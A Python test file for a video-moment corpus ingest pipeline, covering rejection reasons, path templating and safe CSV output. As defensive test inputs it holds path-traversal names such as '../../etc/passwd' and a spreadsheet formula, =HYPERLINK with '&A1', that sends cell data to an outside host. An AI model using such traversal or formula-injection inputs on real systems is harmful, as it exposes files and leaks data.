@@ -1,0 +1,608 @@
+"""What of a corpus is used, what is refused and why, and that nothing is lost on the way."""
+
+import json
+import math
+import posixpath
+import re
+from pathlib import Path
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from pipeline import files, ingest, tables
+from pipeline.corpora.rows import Row
+from pipeline.ingest import CorpusError, video_path
+from pipeline.params import Ingest
+
+GOOD = {
+    "file": "tvr.jsonl",
+    "line": 7,
+    "moment_id": 1,
+    "video_id": "v1",
+    "start": 2.0,
+    "end": 4.0,
+    "duration": 10.0,
+    "description": "She waves.",
+}
+
+
+def row(**changes) -> Row:
+    return Row(**GOOD | changes)
+
+
+def rows_with_own_ids(*changes: dict) -> list[Row]:
+    return [row(**{"moment_id": number, "line": number} | it) for number, it in enumerate(changes)]
+
+
+def of(**changes) -> Ingest:
+    fields = {
+        "corpus": "tvr",
+        "source": "tvr.jsonl",
+        "videos": None,
+        "query_modalities": ["v"],
+        "pool_modalities": ["v"],
+        "max_rejected": 0.01,
+        "end_slack": 1.0,
+        "columns": {},
+    }
+    return Ingest(**fields | changes)
+
+
+def taken(*rows: Row, **changes) -> ingest.Ingested:
+    return ingest.ingest(rows, of(**changes))
+
+
+def reasons_of(result) -> list[tuple]:
+    return list(result.rejected[["line", "reason"]].itertuples(index=False, name=None))
+
+
+def moments_of(result) -> list[tuple]:
+    return list(result.moments.itertuples(index=False, name=None))
+
+
+# Usable rows
+
+
+def test_a_usable_row_is_a_moment_and_its_video():
+    result = taken(row(), videos="videos/{video_id}.mp4")
+    assert moments_of(result) == [("1", "v1", 2.0, 4.0, "She waves.", "v")]
+    assert result.videos.to_dict("records") == [
+        {"video_id": "v1", "duration": 10.0, "path": "videos/v1.mp4"}
+    ]
+    assert len(result.rejected) == 0
+    assert result.metrics == {
+        "rows": 1,
+        "moments": 1,
+        "videos": 1,
+        "videos_without_path": 0,
+        "videos_with_several_durations": 0,
+        "by_modality": {"v": 1},
+        "other_modality": 0,
+        "ends_clipped": 0,
+        "rejected": 0,
+        "rejected_by_reason": {},
+    }
+
+
+@pytest.mark.parametrize(
+    ("changes", "column", "value"),
+    [
+        ({"moment_id": 90200}, "moment_id", "90200"),
+        ({"moment_id": 90200.0}, "moment_id", "90200"),
+        ({"moment_id": 2**63}, "moment_id", "9223372036854775808"),
+        ({"moment_id": " 007 "}, "moment_id", "007"),
+        ({"video_id": "a b/c%é"}, "video_id", "a b/c%é"),
+        ({"video_id": 5}, "video_id", "5"),
+        ({"start": "0.5"}, "start", 0.5),
+        ({"start": " 5e-1 "}, "start", 0.5),
+        ({"start": 0}, "start", 0.0),
+        ({"end": 10}, "end", 10.0),
+        ({"description": " She\n waves\u3000to\t him. "}, "description", "She waves to him."),
+        ({"description": "=1+1"}, "description", "=1+1"),
+        ({"modality": "vt"}, "modality", "vt"),
+    ],
+)
+def test_fields_are_given_their_types(changes, column, value):
+    [moment] = taken(row(**changes), pool_modalities=["v", "vt"]).moments.to_dict("records")
+    assert moment[column] == value
+    assert type(moment[column]) is type(value)
+
+
+# Reasons
+
+REASONS = [
+    ({"problem": "not-json"}, "not-json"),
+    ({"description": "caf\udce9"}, "not-utf8"),
+    ({"description": "\ud800"}, "not-utf8"),
+    ({"video_id": "v\ud800"}, "not-utf8"),
+    ({"moment_id": "\udfff"}, "not-utf8"),
+    ({"moment_id": None}, "no-id"),
+    ({"moment_id": " "}, "no-id"),
+    ({"moment_id": 1.5}, "no-id"),
+    ({"moment_id": math.nan}, "no-id"),
+    ({"moment_id": math.inf}, "no-id"),
+    ({"moment_id": True}, "no-id"),
+    ({"moment_id": [1]}, "no-id"),
+    ({"video_id": None}, "no-video"),
+    ({"video_id": "\t"}, "no-video"),
+    ({"video_id": {"name": "v1"}}, "no-video"),
+    ({"description": None}, "empty-text"),
+    ({"description": ""}, "empty-text"),
+    ({"description": " \u2003\n"}, "empty-text"),
+    ({"description": 5}, "empty-text"),
+    ({"description": ["She waves."]}, "empty-text"),
+    ({"modality": None}, "unknown-modality"),
+    ({"modality": "V"}, "unknown-modality"),
+    ({"modality": ["v"]}, "unknown-modality"),
+    ({"start": None}, "not-a-number"),
+    ({"start": "soon"}, "not-a-number"),
+    ({"start": ""}, "not-a-number"),
+    ({"start": True}, "not-a-number"),
+    ({"start": [2]}, "not-a-number"),
+    ({"end": math.nan}, "not-a-number"),
+    ({"end": math.inf}, "not-a-number"),
+    ({"end": "1e999"}, "not-a-number"),
+    ({"end": 10**400}, "not-a-number"),
+    ({"duration": None}, "no-duration"),
+    ({"duration": 0}, "no-duration"),
+    ({"duration": -10}, "no-duration"),
+    ({"duration": "long"}, "no-duration"),
+    ({"duration": math.inf}, "no-duration"),
+    ({"start": -0.1}, "negative-time"),
+    ({"start": -2, "end": -1}, "negative-time"),
+    ({"start": 4.0, "end": 4.0}, "end-not-after-start"),
+    ({"start": 5.0, "end": 4.0}, "end-not-after-start"),
+    ({"start": 10.0, "end": 10.5}, "starts-after-video"),
+    ({"start": 11.0, "end": 12.0}, "starts-after-video"),
+    ({"end": 11.0}, "ends-after-video"),
+    ({"end": 99.0}, "ends-after-video"),
+]
+
+
+@pytest.mark.parametrize(("changes", "reason"), REASONS)
+def test_a_row_that_cannot_be_used_is_rejected_with_its_place_and_reason(changes, reason):
+    result = taken(row(**changes))
+    assert moments_of(result) == []
+    [rejected] = result.rejected.to_dict("records")
+    assert (rejected["file"], rejected["line"], rejected["reason"]) == ("tvr.jsonl", 7, reason)
+    assert result.metrics["rejected_by_reason"] == {reason: 1}
+
+
+def test_every_reason_of_the_code_has_its_case():
+    source = Path(ingest.__file__).read_text()
+    hyphenated = set(re.findall(r'"([a-z0-9]+(?:-[a-z0-9]+)+)"', source)) - {"utf-8"}
+    readers_own = {"not-json"}  # one of them stands for all: the tests of the readers have each
+    assert {reason for _, reason in REASONS} - readers_own == hyphenated - {"duplicate-id"}
+
+
+@pytest.mark.parametrize(
+    ("changes", "reason"),
+    [
+        ({"problem": "not-json", "moment_id": None}, "not-json"),
+        ({"problem": "not-json", "description": "\ud800"}, "not-json"),
+        ({"moment_id": "\ud800", "video_id": None}, "not-utf8"),
+        ({"moment_id": None, "video_id": None, "description": ""}, "no-id"),
+        ({"video_id": None, "duration": None}, "no-video"),
+        ({"description": "", "modality": "x"}, "empty-text"),
+        ({"modality": "x", "start": None}, "unknown-modality"),
+        ({"start": None, "end": -1}, "not-a-number"),
+        ({"duration": None, "start": -1}, "no-duration"),
+        ({"start": -1, "end": -2}, "negative-time"),
+        ({"start": 12, "end": 11}, "end-not-after-start"),
+        ({"start": 12, "end": 13}, "starts-after-video"),
+    ],
+)
+def test_of_several_problems_the_first_is_the_reason(changes, reason):
+    assert reasons_of(taken(row(**changes))) == [(7, reason)]
+
+
+def test_a_rejected_row_is_shown_as_the_file_has_it():
+    result = taken(row(moment_id=1.5, start="soon", modality=["v"], item="[3]", description="Hi"))
+    [shown] = result.rejected.to_dict("records")
+    assert shown == {
+        "file": "tvr.jsonl",
+        "line": 7,
+        "item": "[3]",
+        "moment_id": 1.5,
+        "video_id": "v1",
+        "start": "soon",
+        "end": 4.0,
+        "duration": 10.0,
+        "description": "Hi",
+        "modality": "['v']",
+        "reason": "no-id",
+    }
+
+
+# Duplicates, durations, modalities, ends
+
+
+def test_of_rows_with_one_id_the_first_usable_is_taken():
+    rows = [
+        row(line=1, end=0, moment_id=5),
+        row(line=2, description="First.", moment_id="5"),
+        row(line=3, description="Second.", moment_id=5),
+        row(line=4, description="Third.", moment_id=5.0, modality="t"),
+    ]
+    result = taken(*rows)
+    assert [moment[4] for moment in moments_of(result)] == ["First."]
+    assert reasons_of(result) == [
+        (1, "end-not-after-start"),
+        (3, "duplicate-id"),
+        (4, "duplicate-id"),
+    ]
+
+
+def test_rows_without_id_are_no_duplicates_of_each_other():
+    result = taken(row(line=1, moment_id=None), row(line=2, moment_id=None))
+    assert reasons_of(result) == [(1, "no-id"), (2, "no-id")]
+
+
+def test_a_video_with_several_durations_has_the_longest_and_is_counted():
+    result = taken(
+        *rows_with_own_ids(
+            {"duration": 10, "end": 11.9},
+            {"duration": 12},
+            {"duration": None},
+            {"video_id": "v2", "duration": 12},
+        )
+    )
+    assert result.videos["duration"].to_list() == [12.0, 12.0]
+    assert [moment[3] for moment in moments_of(result)] == [11.9, 4.0, 4.0, 4.0]
+    assert result.metrics["videos_with_several_durations"] == 1
+    assert result.metrics["ends_clipped"] == 0
+
+
+def test_rows_of_other_modalities_are_counted_and_not_taken():
+    rows = rows_with_own_ids({}, {"modality": "t"}, {"modality": "vt"}, {"modality": "vt"})
+    visual = taken(*rows)
+    assert [moment[0] for moment in moments_of(visual)] == ["0"]
+    assert visual.metrics["other_modality"] == 3
+    wider = taken(*rows, pool_modalities=["v", "vt"])
+    assert [moment[0] for moment in moments_of(wider)] == ["0", "2", "3"]
+    assert wider.metrics["by_modality"] == {"v": 1, "vt": 2}
+    assert wider.metrics["other_modality"] == 1
+    queries = taken(*rows, query_modalities=["t"])
+    assert [moment[0] for moment in moments_of(queries)] == ["0", "1"]
+
+
+@pytest.mark.parametrize(
+    ("end", "slack", "kept"),
+    [
+        (10.0, 1.0, 10.0),
+        (10.5, 1.0, 10.0),
+        (10.99, 1.0, 10.0),
+        (11.0, 1.0, None),
+        (10.0, 0.0, 10.0),
+        (10.01, 0.0, None),
+        (14.0, 5.0, 10.0),
+    ],
+)
+def test_an_end_past_the_videos_by_less_than_the_slack_is_clipped(end, slack, kept):
+    result = taken(row(end=end), end_slack=slack)
+    assert [moment[3] for moment in moments_of(result)] == ([] if kept is None else [kept])
+    assert result.metrics["ends_clipped"] == (kept is not None and end > 10.0)
+    assert result.metrics["rejected"] == (kept is None)
+
+
+def test_only_ends_of_moments_that_are_taken_count_as_clipped():
+    rows = rows_with_own_ids({"end": 10.5}, {"end": 10.5, "modality": "t"})
+    assert taken(*rows).metrics["ends_clipped"] == 1
+
+
+def test_no_rows_are_empty_tables():
+    result = taken()
+    assert result.metrics["rows"] == result.metrics["moments"] == result.metrics["rejected"] == 0
+    assert list(result.moments.columns) == tables.MOMENTS.columns
+    assert list(result.videos.columns) == tables.VIDEOS.columns
+    assert list(result.rejected.columns) == ingest.REJECTED_COLUMNS
+
+
+# Nothing is lost
+
+surrogates = st.text(st.characters(exclude_categories=()), max_size=4)
+scalars = (
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.sampled_from([2**63, -(2**63), 10**30, 10**400, math.nan, math.inf, "1e5", "1e999", "-0"])
+    | st.floats()
+    | surrogates
+)
+json_values = st.recursive(
+    scalars,
+    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(surrogates, inner, max_size=2),
+)
+plausible = {
+    "moment_id": st.integers(0, 9),
+    "video_id": st.sampled_from(["a", "b", "../a"]),
+    "start": st.integers(0, 4) | st.floats(0, 9),
+    "end": st.integers(4, 11) | st.floats(0, 12),
+    "duration": st.integers(9, 10),
+    "description": st.just("She waves."),
+    "modality": st.sampled_from(tables.MODALITIES),
+}
+garbage = st.dictionaries(st.sampled_from(list(plausible)), json_values, max_size=2)
+garbage_rows = st.builds(
+    lambda good, bad: Row("f.jsonl", **good | bad), st.fixed_dictionaries(plausible), garbage
+)
+lists_of_garbage = st.lists(garbage_rows, max_size=8).map(
+    lambda rows: [row._replace(line=number) for number, row in enumerate(rows)]
+)
+
+
+@settings(max_examples=30)
+@given(lists_of_garbage, st.floats(0, 3))
+def test_every_row_ends_in_exactly_one_place(tmp_path, rows, slack):
+    result = taken(*rows, end_slack=slack, videos="videos/{video_id}.mp4")
+    metrics = result.metrics
+    assert len(result.moments) + len(result.rejected) + metrics["other_modality"] == len(rows)
+    assert metrics["rows"] == len(rows)
+    assert metrics["moments"] == len(result.moments) == sum(metrics["by_modality"].values())
+    assert metrics["rejected"] == sum(metrics["rejected_by_reason"].values())
+    refused = set(result.rejected["line"])
+    assert len(refused) == len(result.rejected)
+    left = [it.moment_id for it in rows if it.line not in refused]
+    assert set(result.moments["moment_id"]) <= {str(_whole(it)).strip() for it in left}
+
+    joined = result.moments.merge(result.videos, on="video_id", validate="many_to_one")
+    assert len(joined) == len(result.moments)
+    in_order = (joined["start"] >= 0) & (joined["start"] < joined["end"])
+    assert (in_order & (joined["end"] <= joined["duration"])).all()
+
+    files.write_csv(tmp_path / "rejected.csv", result.rejected)
+    assert len(files.read_csv(tmp_path / "rejected.csv")) == len(result.rejected)
+    files.write_json(tmp_path / "metrics.json", metrics)
+    tables.MOMENTS.write(result.moments, tmp_path / "moments.parquet")
+    tables.VIDEOS.write(result.videos, tmp_path / "videos.parquet")
+
+
+def _whole(value: object) -> object:
+    return int(value) if isinstance(value, float) and value.is_integer() else value
+
+
+times = st.sampled_from([None, -1.0, 0.0, 2.0, 4.0, 9.5, 10.0, 10.5, 11.0, 12.0])
+
+
+def first_reason(start, end, duration, slack) -> str:  # noqa: PLR0911  (one per reason)
+    """Define the reasons for one row whose text and ids are fine."""
+    if start is None or end is None:
+        return "not-a-number"
+    if duration is None or duration <= 0:
+        return "no-duration"
+    if start < 0 or end < 0:
+        return "negative-time"
+    if end <= start:
+        return "end-not-after-start"
+    if start >= duration:
+        return "starts-after-video"
+    if end > duration and end - duration >= slack:
+        return "ends-after-video"
+    return ""
+
+
+@settings(max_examples=40)
+@given(st.lists(st.tuples(times, times, times), max_size=30), st.sampled_from([0.0, 0.5, 1.0]))
+def test_reasons_of_times_are_those_of_their_definition(intervals, slack):
+    rows = rows_with_own_ids(
+        *(
+            {"start": start, "end": end, "duration": duration, "video_id": f"v{number}"}
+            for number, (start, end, duration) in enumerate(intervals)
+        )
+    )
+    expected = {
+        number: reason
+        for number, interval in enumerate(intervals)
+        if (reason := first_reason(*interval, slack))
+    }
+    result = taken(*rows, end_slack=slack)
+    assert dict(reasons_of(result)) == expected
+    assert [moment[0] for moment in moments_of(result)] == [
+        str(number) for number in range(len(rows)) if number not in expected
+    ]
+
+
+# Paths
+
+TEMPLATES = [
+    "videos/{video_id}.mp4",
+    "videos/{video_id}",
+    "{video_id}",
+    "{video_id}.mp4",
+    "/data/videos/{video_id}/{video_id}.mp4",
+    "/{video_id}",
+    "../videos/s_{video_id}.mp4",
+    "videos/.{video_id}",
+]
+segments = st.sampled_from(
+    ["..", ".", "/", "//", "a", "~", "\\", "\0", " ", "{video_id}", "é", "%"]
+)
+names = st.text(min_size=1) | st.lists(segments, min_size=1, max_size=8).map("".join)
+
+
+@pytest.mark.parametrize("template", TEMPLATES)
+@example("../../x")
+@example("/etc/passwd")
+@example("a/../../x")
+@example("..")
+@example(".")
+@example("./.")
+@given(names)
+def test_no_name_leads_out_of_the_templates_folder(template, name):
+    path = video_path(template, name)
+    folder = posixpath.join("/work/here", posixpath.dirname(template.partition("{")[0]))
+    folder = posixpath.normpath(folder)
+    if path is not None:
+        reached = posixpath.normpath(posixpath.join("/work/here", path))
+        assert "\0" not in path
+        assert reached != folder
+        assert posixpath.commonpath([reached, folder]) == folder
+
+
+@pytest.mark.parametrize("name", ["../../x", "/../x", "a/../../../x", "..", "a\0b"])
+def test_names_that_would_lead_out_have_no_path(name):
+    assert video_path("videos/{video_id}", name) is None
+
+
+@pytest.mark.parametrize(
+    ("template", "name", "path"),
+    [
+        ("videos/{video_id}.mp4", "v1", "videos/v1.mp4"),
+        ("videos/{video_id}.mp4", "my video, part 2", "videos/my video, part 2.mp4"),
+        ("videos/{video_id}.mp4", "show/s01/e02", "videos/show/s01/e02.mp4"),
+        ("videos/{video_id}.mp4", "é_日本\u202e", "videos/é_日本\u202e.mp4"),
+        ("videos/{video_id}.mp4", "{video_id}{0}%s", "videos/{video_id}{0}%s.mp4"),
+        ("videos/{video_id}.mp4", "..", "videos/...mp4"),
+        ("videos/{video_id}.mp4", "a..b", "videos/a..b.mp4"),
+        ("videos/{video_id}.mp4", "~root", "videos/~root.mp4"),
+        ("../videos/{video_id}.mp4", "v1", "../videos/v1.mp4"),
+        ("/data/{video_id}/{video_id}.mp4", "v1", "/data/v1/v1.mp4"),
+        ("{video_id}", "v1", "v1"),
+    ],
+)
+def test_other_names_have_the_path_that_the_template_says(template, name, path):
+    assert video_path(template, name) == path
+
+
+def test_without_a_template_no_video_has_a_path():
+    assert video_path(None, "v1") is None
+
+
+def test_a_video_may_be_a_link_to_another_disk(tmp_path):
+    (tmp_path / "disk").mkdir()
+    (tmp_path / "disk" / "v1.mp4").write_text("video")
+    (tmp_path / "videos").mkdir()
+    (tmp_path / "videos" / "v1.mp4").symlink_to(tmp_path / "disk" / "v1.mp4")
+    path = video_path(f"{tmp_path}/videos/{{video_id}}.mp4", "v1")
+    assert Path(path).read_text() == "video"
+
+
+def test_videos_whose_name_leads_out_are_counted():
+    rows = rows_with_own_ids({}, {"video_id": "../../etc/passwd"}, {"video_id": "a b"})
+    result = taken(*rows, videos="videos/{video_id}")
+    assert result.metrics["videos_without_path"] == 1
+    assert len(result.moments) == 3
+    paths = dict(zip(result.videos["video_id"], result.videos["path"].notna(), strict=True))
+    assert paths == {"../../etc/passwd": False, "a b": True, "v1": True}
+
+
+# The stage
+
+
+@pytest.fixture
+def stage(repository, tmp_path, monkeypatch):
+    """Return a function that runs the stage on a TVR file of these lines."""
+    monkeypatch.chdir(tmp_path)
+
+    def _stage(*lines, **changes):
+        content = files.read_yaml(repository / "params.yaml")
+        content["ingest"] |= {"source": "tvr.jsonl", **changes}
+        files.write_json(Path("params.yaml"), content)
+        texts = [line if isinstance(line, str) else json.dumps(line) for line in lines]
+        Path("tvr.jsonl").write_text("".join(f"{text}\n" for text in texts))
+        ingest.main()
+
+    return _stage
+
+
+def tvr(number, **changes):
+    return {
+        "vid_name": "v1",
+        "duration": 10.0,
+        "ts": [2.0, 4.0],
+        "desc": f"She waves {number}.",
+        "type": "v",
+        "desc_id": number,
+    } | changes
+
+
+def hundred_rows(bad):
+    return [tvr(number, ts=[1, 0 if number < bad else 2]) for number in range(100)]
+
+
+def metrics():
+    return files.read_json(Path("datasets/work/metrics/ingest.json"))
+
+
+def rejected():
+    return files.read_csv(ingest.REJECTED)
+
+
+def test_the_stage_writes_its_tables_and_metrics(stage):
+    stage(tvr(1), tvr(2, type="t"), tvr(3, ts=[4, 2]), max_rejected=0.5)
+    assert tables.MOMENTS.read()["moment_id"].to_list() == ["1"]
+    assert tables.VIDEOS.read()["video_id"].to_list() == ["v1"]
+    assert rejected()["line"].to_list() == ["3"]
+    assert rejected()["moment_id"].to_list() == ["3"]
+    assert rejected()["reason"].to_list() == ["end-not-after-start"]
+    counts = metrics()
+    assert (counts["rows"], counts["moments"], counts["rejected"]) == (3, 1, 1)
+    assert sorted(path.name for path in Path("datasets/work").iterdir()) == [
+        "metrics",
+        "moments.parquet",
+        "rejected_moments.csv",
+        "videos.parquet",
+    ]
+
+
+def test_too_many_rejected_rows_stop_the_stage_after_they_are_written(stage):
+    with pytest.raises(CorpusError) as caught:
+        stage(tvr(1), "no json", tvr(3, desc=""), tvr(4), max_rejected=0.25)
+    assert str(caught.value) == (
+        "tvr.jsonl: 2 of 4 rows can't be used, more than ingest.max_rejected (25.00%); see"
+        " datasets/work/rejected_moments.csv for the place and reason of each, then mend the"
+        " corpus or raise the limit"
+    )
+    assert list(rejected()["reason"]) == ["not-json", "empty-text"]
+    assert metrics()["rejected_by_reason"] == {"empty-text": 1, "not-json": 1}
+    assert not tables.MOMENTS.path.exists()
+    assert not tables.VIDEOS.path.exists()
+
+
+@pytest.mark.parametrize(("bad", "limit"), [(1, 0.01), (0, 0.0), (29, 0.29), (99, 0.99)])
+def test_as_many_rejected_rows_as_allowed_do_not_stop_it(stage, bad, limit):
+    stage(*hundred_rows(bad), max_rejected=limit)
+    assert len(tables.MOMENTS.read()) == 100 - bad
+
+
+@pytest.mark.parametrize(("bad", "limit"), [(2, 0.01), (1, 0.0), (30, 0.29)])
+def test_one_more_stops_it(stage, bad, limit):
+    with pytest.raises(CorpusError, match=rf"{bad} of 100 rows can't be used"):
+        stage(*hundred_rows(bad), max_rejected=limit)
+
+
+def test_a_corpus_without_rows_stops_it(stage):
+    with pytest.raises(CorpusError, match=r"^tvr\.jsonl: holds no tvr rows$"):
+        stage()
+    assert len(rejected()) == 0
+    assert metrics()["rows"] == 0
+
+
+def test_a_corpus_without_a_usable_row_stops_it_whatever_is_allowed(stage):
+    with pytest.raises(CorpusError, match=r"not one of 2 rows can be used; see datasets/work/rej"):
+        stage("{}", "[]", max_rejected=1.0)
+    assert list(rejected()["reason"]) == ["no-id", "not-an-object"]
+
+
+def test_a_corpus_of_other_modalities_stops_it(stage):
+    with pytest.raises(CorpusError, match=r"no row is of ingest\.query_modalities \['v'\] or"):
+        stage(tvr(1, type="t"), tvr(2, type="vt"))
+
+
+def test_formulas_in_rejected_rows_are_harmless(stage):
+    formula = '=HYPERLINK("http://example.org/?"&A1)'
+    stage(tvr(1), tvr("@SUM(1)", desc=formula, vid_name="-1+1", ts=["=1", "+1"]), max_rejected=0.5)
+    text = ingest.REJECTED.read_text().splitlines()[1]
+    assert text == (
+        "tvr.jsonl,2,,'@SUM(1),'-1+1,'=1,'+1,10.0,"
+        '"\'=HYPERLINK(""http://example.org/?""&A1)",v,not-a-number'
+    )
+    assert rejected().loc[2, "description"] == formula
+
+
+def test_broken_text_is_written_so_that_it_can_be_seen(stage):
+    stage(tvr(1), tvr(2, desc="lone \ud800", vid_name="nul\0"), max_rejected=0.5)
+    assert rejected().loc[2, "description"] == "lone \\ud800"
+    assert rejected().loc[2, "reason"] == "not-utf8"
+    assert rejected().loc[2, "video_id"] == "nul\0"
